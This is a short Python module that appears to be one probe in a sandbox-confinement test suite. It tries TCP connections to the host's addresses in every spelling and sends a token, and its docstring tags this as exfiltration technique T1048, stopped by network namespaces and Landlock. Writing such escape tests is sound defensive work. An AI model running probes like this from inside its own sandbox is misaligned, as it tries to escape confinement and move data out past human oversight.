"""Connect by TCP to the host's addresses, each spelling of them.

gain: everything that listens there, and a way out for data
attack: T1048
stopped by: network namespace, Landlock
unconfined: host
seen from outside: yes
also refused by: ECONNREFUSED, ENETUNREACH, EHOSTUNREACH, EADDRNOTAVAIL, EINVAL
"""

import socket

from attacker import each, first, reach


def attempt(world):
    def connect(place):
        family = socket.AF_INET6 if ":" in place[0] else socket.AF_INET
        return reach(family, socket.SOCK_STREAM, tuple(place), world["token"].encode())

    return first(*each(world["tcp"], connect))
